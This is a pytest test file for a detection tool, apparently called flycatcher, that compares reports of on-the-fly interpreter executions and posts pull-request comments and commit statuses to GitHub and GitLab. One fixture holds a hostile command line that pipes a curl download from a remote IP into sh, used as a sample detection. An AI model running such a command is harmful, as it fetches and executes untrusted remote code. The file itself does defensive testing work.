"""One comment on a pull request, which a later run changes."""

from __future__ import annotations

import json
import re
from typing import TYPE_CHECKING, Any

import pytest
from click.testing import CliRunner
from markdown_it import MarkdownIt

from flycatcher.commands import cli
from flycatcher.commands.report.comment import LIMIT, MARK, comment
from flycatcher.commands.report.compare import Compared
from flycatcher.commands.report.forges import forge_of
from flycatcher.core.errors import FlycatcherError
from flycatcher.sinks.formats.shared import Sharer
from tests.delivery.events import hostile, record
from tests.delivery.receivers import Answer, HttpReceiver

if TYPE_CHECKING:
    from pathlib import Path

    from tests.delivery.receivers import Request

LOUD = record("perl", "-e", 'system("curl -s http://198.51.100.7/x | sh")')
QUIET = record("ruby", "-e", "puts 1")
OTHER = record("python3", "-c", "print(1)")
SUMMARY = {"schema": "flycatcher.summary/1", "summary": {"executions_seen": 3, "lost": 2, "detections": 3}}


def report(folder: Path, name: str, *records: dict[str, Any]) -> Path:
    path = folder / name
    path.write_text("".join(json.dumps(each) + "\n" for each in records))
    return path


def test_reports_are_compared_by_the_detections_ids(tmp_path: Path) -> None:
    ours = report(tmp_path, "ours.jsonl", QUIET, LOUD, LOUD, QUIET | {"policy": {"action": "suppressed"}}, SUMMARY)
    base = report(tmp_path, "base.jsonl", QUIET, OTHER)
    found = Compared.of([ours], [base])
    assert [(each["interpreter"], times) for each, times in found.new] == [("perl", 2)]
    assert [each["interpreter"] for each, _ in found.known] == ["ruby"]
    assert [each["interpreter"] for each, _ in found.gone] == ["python"]
    assert (found.suppressed, found.losses) == (1, 2)


def test_compact_reports_are_compared_like_plain_ones(tmp_path: Path) -> None:
    sharer = Sharer()
    rows = [row for each in (LOUD, QUIET) for row in sharer.lines(each)]
    found = Compared.of([report(tmp_path, "ours.jsonl", *rows)], [report(tmp_path, "base.jsonl", QUIET)])
    assert [each for each, _ in found.new] == [json.loads(json.dumps(LOUD))]


def test_the_comment_says_what_is_new_gone_and_known(tmp_path: Path) -> None:
    ours, base = report(tmp_path, "a.jsonl", QUIET, LOUD, SUMMARY), report(tmp_path, "b.jsonl", QUIET, OTHER)
    done = CliRunner().invoke(cli, ["report", "pr", str(ours), "--base", str(base)])
    assert done.exit_code == 0
    assert done.output.startswith(f"{MARK}\n### Flycatcher: code on the fly\n\n1 new, 1 gone, 1 known.\n")
    assert "**2 executions were lost: what they ran is not in this report.**" in done.output
    assert re.findall(r"<summary>(.*?)</summary>", done.output) == ["New: 1", "Gone: 1", "Known: 1"]
    assert "| high | perl argument &#45;e |" in done.output
    alone = CliRunner().invoke(cli, ["report", "pr", str(ours)])
    assert "2 detections.\n" in alone.output


def test_nothing_of_a_report_is_markup(tmp_path: Path) -> None:
    text = "| x | `y` [z](http://a.example) <img src=x> **b** @everyone\n\n# h\n</code></details><!-- -->"
    made = comment(Compared.of([report(tmp_path, "a.jsonl", hostile(text).record)], []), compared=False)
    rows = [line for line in made.splitlines() if line.startswith("| ") and "risk" not in line]
    assert len(rows) == 1
    kinds = [
        child.type
        for token in MarkdownIt("commonmark", {"html": True}).enable("table").parse(rows[0])
        for child in token.children or []
    ]
    assert set(kinds) <= {"text", "html_inline", "text_special"}
    assert re.findall(r"<[^>]*>", rows[0]) == ["<code>", "</code>"]
    assert "@everyone" not in made


def test_a_comment_is_as_long_as_a_forge_takes_and_says_what_it_leaves_out(tmp_path: Path) -> None:
    many = [record("perl", "-e", f"print {number}; " + "x" * 300) for number in range(600)]
    made = comment(Compared.of([report(tmp_path, "a.jsonl", *many)], []), compared=False)
    assert len(made) <= LIMIT
    left = re.search(r"\n(\d+) more left out: see the report\.\n", made)
    assert left is not None
    assert int(left[1]) + made.count("\n| ") - 1 == 600


class Comments:
    """A forge's comments."""

    def __init__(self, *bodies: str, foreign: bool = False) -> None:
        self.bodies = list(bodies)
        self.foreign = foreign

    def answer(self, request: Request) -> Answer:
        if request.method == "GET":
            first = 100 * (int(request.path.rpartition("page=")[2]) - 1)
            page = [
                {"id": first + number, "body": body} for number, body in enumerate(self.bodies[first : first + 100])
            ]
            return Answer(200, json.dumps(page).encode())
        if request.method in {"PATCH", "PUT"}:
            if self.foreign:
                return Answer(403, b"{}")
            number = int(request.path.rpartition("/")[2])
            self.bodies[number] = json.loads(request.body)["body"]
            return Answer(200, b"{}")
        self.bodies.append(json.loads(request.body)["body"])
        return Answer(201, json.dumps({"id": len(self.bodies) - 1}).encode())


def variables(forge: str, address: str) -> dict[str, str]:
    if forge == "github":
        return {
            "GITHUB_API_URL": address,
            "GITHUB_REPOSITORY": "acme/app",
            "GITHUB_REF": "refs/pull/7/merge",
            "GITHUB_TOKEN": "t0",
        }
    return {
        "GITLAB_CI": "true",
        "CI_API_V4_URL": address,
        "CI_PROJECT_ID": "5",
        "CI_MERGE_REQUEST_IID": "7",
        "GITLAB_TOKEN": "t0",
    }


@pytest.mark.parametrize(
    ("forge", "path", "header"),
    [
        ("github", "/repos/acme/app/issues/7/comments", ("authorization", "Bearer t0")),
        ("gitlab", "/projects/5/merge_requests/7/notes", ("private-token", "t0")),
    ],
)
def test_the_first_run_writes_a_comment_and_the_next_one_changes_it(
    forge: str, path: str, header: tuple[str, str]
) -> None:
    comments = Comments(*(f"talk {number}" for number in range(120)))
    with HttpReceiver(comments.answer) as receiver:
        where = forge_of(variables(forge, receiver.address))
        assert where.put(f"{MARK} one") == "comment 120 written"
        assert where.put(f"{MARK} two") == "comment 120 changed"
        assert receiver.requests[0].path == f"{path}?per_page=100&page=1"
        assert receiver.requests[0].headers[header[0]] == header[1]
    assert comments.bodies[120:] == [f"{MARK} two"]


def test_somebody_elses_comment_with_our_mark_is_left_alone() -> None:
    comments = Comments(f"{MARK} theirs", foreign=True)
    with HttpReceiver(comments.answer) as receiver:
        assert forge_of(variables("github", receiver.address)).put(f"{MARK} ours") == "comment 1 written"
    assert comments.bodies == [f"{MARK} theirs", f"{MARK} ours"]


@pytest.mark.parametrize(
    ("missing", "said"),
    [
        ("GITHUB_TOKEN", "GITHUB_TOKEN is not set"),
        ("GITHUB_REF", "no pull request"),
        ("GITHUB_REPOSITORY", "no pull request"),
    ],
)
def test_what_is_missing_is_named(missing: str, said: str) -> None:
    environment = variables("github", "http://127.0.0.1:9")
    del environment[missing]
    with pytest.raises(FlycatcherError, match=said):
        forge_of(environment)


def test_a_forge_that_refuses_is_quoted_without_the_token() -> None:
    with HttpReceiver(lambda _: Answer(401, b'{"message":"Bad credentials"}')) as receiver:
        with pytest.raises(FlycatcherError, match=r"HTTP 401: .*Bad credentials") as error:
            forge_of(variables("github", receiver.address)).put("x")
        assert "t0" not in str(error.value)


COMMIT = "c" * 40


@pytest.mark.parametrize(
    ("forge", "base", "name", "failed"),
    [("github", "/repos/acme/app", "context", "failure"), ("gitlab", "/projects/5", "name", "failed")],
)
def test_the_commit_gets_a_status_that_fails_from_a_risk_on(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, forge: str, base: str, name: str, failed: str
) -> None:
    ours, theirs = report(tmp_path, "ours.jsonl", QUIET, LOUD, LOUD), report(tmp_path, "base.jsonl", QUIET)
    event = tmp_path / "event.json"
    event.write_text(json.dumps({"pull_request": {"head": {"sha": COMMIT}}}))
    statuses: list[Request] = []

    def answer(request: Request) -> Answer:
        if "/statuses/" in request.path:
            statuses.append(request)
        return Answer(200, b"[]" if request.method == "GET" else b"{}")

    with HttpReceiver(answer) as receiver:
        for key in ("GITLAB_CI", "GITHUB_EVENT_PATH"):
            monkeypatch.delenv(key, raising=False)
        for key, value in variables(forge, receiver.address).items():
            monkeypatch.setenv(key, value)
        monkeypatch.setenv(*{"github": ("GITHUB_EVENT_PATH", str(event)), "gitlab": ("CI_COMMIT_SHA", COMMIT)}[forge])
        words = ["report", "pr", str(ours), "--base", str(theirs), "--post", "--status"]
        for level in ("high", "critical"):
            done = CliRunner().invoke(cli, [*words, level])
            assert done.exit_code == 0, done.output
    assert {request.path for request in statuses} == {f"{base}/statuses/{COMMIT}"}
    assert [json.loads(request.body) for request in statuses] == [
        {"state": failed, name: "flycatcher", "description": "1 new detection of risk high or more"},
        {"state": "success", name: "flycatcher", "description": "nothing new of risk critical or more"},
    ]


def test_a_status_without_a_commit_or_without_a_forge_is_refused(tmp_path: Path) -> None:
    with HttpReceiver() as receiver:
        forge = forge_of(variables("github", receiver.address))
        for commit in ("", "main", f"{COMMIT}/../../x"):
            with pytest.raises(FlycatcherError, match="no commit to give a status"):
                forge.set_status(commit, "text", failed=False)
        assert receiver.requests == []
    done = CliRunner().invoke(cli, ["report", "pr", str(report(tmp_path, "a.jsonl", QUIET)), "--status", "high"])
    assert (done.exit_code, "--status needs --post" in done.output) == (2, True)
